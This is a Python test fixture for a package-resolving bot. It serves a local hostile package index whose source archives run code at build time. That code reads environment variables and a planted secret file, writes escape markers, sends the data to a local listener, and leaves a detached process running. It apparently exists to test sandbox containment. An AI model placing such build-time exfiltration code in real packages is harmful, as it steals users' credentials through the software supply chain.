"""An index with source archives that do harm when they are built, and the bot that asks it."""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import tarfile
import urllib.error
import urllib.request
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urljoin

from pypi_simple import PYPI_SIMPLE_ENDPOINT

from bot.app import App
from bot.config import load
from tests.bot.adapters.http_server import Answer, Asked, Reply, Server, running

SECRET = "secret-of-the-test"
_LINK = re.compile(r'href="([^"]*)"')
PAGE = "application/vnd.pypi.simple.v1+json"
BACKEND = (
    '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
    '[project]\nname = "{name}"\ndynamic = ["version", "dependencies"]\n'
)
ARCHIVES = {
    "a backend of its own": {"pyproject.toml": BACKEND, "evil.py": "{harm}"},
    "setup.py": {"setup.py": "{harm}from setuptools import setup\nsetup()\n"},
}
INSIDE = "ran-inside"
"""What shows in a scratch, where it may write, that it ran."""
HARM = """\
import os, subprocess, sys, urllib.request
told = repr(dict(os.environ))
try: told += open({secret!r}).read()
except OSError: pass
try: open({marker!r}, "w").write("x")
except OSError: pass
try: open(os.path.join(os.environ["HOME"], "..", "work", {inside!r}), "w").write("x")
except OSError: pass
try: urllib.request.urlopen({listener!r}, told.encode(), timeout=5)
except OSError: pass
"""
LINGERS = """\
argv = [sys.executable, "-c", "import time; time.sleep(600)", {marker!r}]
# With a pipe of the build's in its hands, it would be waited for.
subprocess.Popen(argv, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
"""What stays behind when its build ends: outside of a sandbox nobody would end it."""


@dataclass(frozen=True)
class World:
    """An index with an archive that does harm, and what it is to find."""

    index: Server
    listener: Server
    folder: Path

    @property
    def marker(self) -> Path:
        return self.folder / "ran"


def archive(name: str, version: str, files: Mapping[str, str]) -> bytes:
    """A source archive that tells nothing of what it needs (PEP 643: Metadata 2.1 may say anything)."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as made:
        told = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n", **files}
        for path, text in told.items():
            entry = tarfile.TarInfo(f"{name}-{version}/{path}")
            entry.size = len(text.encode())
            made.addfile(entry, io.BytesIO(text.encode()))
    return raw.getvalue()


@contextmanager
def world(folder: Path, kind: str, others: Answer | None = None, harm: str = HARM) -> Iterator[World]:
    """The index, which has `others` answer for what it does not have itself."""
    (folder / "secret").write_text(SECRET)
    with running(lambda asked: Reply(200, b"ok")) as listener:
        places = {
            "inside": INSIDE,
            "secret": str(folder / "secret"),
            "marker": str(folder / "ran"),
            "listener": listener.url,
        }
        done = harm.format(**places)
        archives = {
            f"{name}-{version}.tar.gz": archive(
                name,
                version,
                {path: text.replace("{harm}", done).replace("{name}", name) for path, text in ARCHIVES[kind].items()},
            )
            for name in ("acme", "evil")
            for version in ("1.0", "2.0")
        }
        with running(lambda asked: served(asked, archives, others)) as index:
            yield World(index, listener, folder)


def served(asked: Asked, archives: Mapping[str, bytes], others: Answer | None = None) -> Reply:
    """An index of archives (PEP 691, PEP 503)."""
    name = asked.path.strip("/").rpartition("/")[2]
    if name in archives:
        return Reply(200, archives[name])
    site = f"http://{asked.headers['host']}/files"
    digests = {
        file: hashlib.sha256(content).hexdigest()
        for file, content in archives.items()
        if file.rpartition("-")[0] == name
    }
    if not digests:
        return others(asked) if others else Reply(404)
    if "json" not in asked.headers.get("accept", ""):
        links = "".join(f'<a href="{site}/{file}#sha256={digest}">{file}</a>' for file, digest in digests.items())
        return Reply(200, f"<!DOCTYPE html><html><body>{links}</body></html>".encode(), {"Content-Type": "text/html"})
    found = [{"filename": f, "url": f"{site}/{f}", "hashes": {"sha256": digest}} for f, digest in digests.items()]
    page = {"meta": {"api-version": "1.0"}, "name": name, "files": found}
    return Reply(200, json.dumps(page).encode(), {"Content-Type": PAGE})


def of_the_ecosystem(asked: Asked) -> Reply:
    """What the ecosystem's own index says of a package (PEP 503); a failure where it is out of reach."""
    name = asked.path.strip("/").rpartition("/")[2]
    request = urllib.request.Request(f"{PYPI_SIMPLE_ENDPOINT}{name}/", headers={"Accept": "text/html"})
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            base = answer.url
            page = _LINK.sub(lambda link: f'href="{urljoin(base, link[1])}"', answer.read().decode())
            return Reply(200, page.encode(), {"Content-Type": "text/html"})
    except urllib.error.HTTPError as error:
        with error:
            return Reply(error.code)
    except OSError:
        return Reply(503)


def app_for(here: World, sandbox: str, *allowed: str) -> App:
    """The bot, whose index is the hostile one; `allowed` are hosts that it may ask besides."""
    settings = {
        "cache": here.folder / "cache",
        "database": f"sqlite:///{here.folder / 'bot.db'}",
        "sandbox": sandbox,
        "registries": {"PyPI": {"url": f"{here.index.url}/simple"}},
        "allowed_hosts": list(allowed),
    }
    return App.start(load(settings, {}, None), {**os.environ, "CANARY": SECRET})
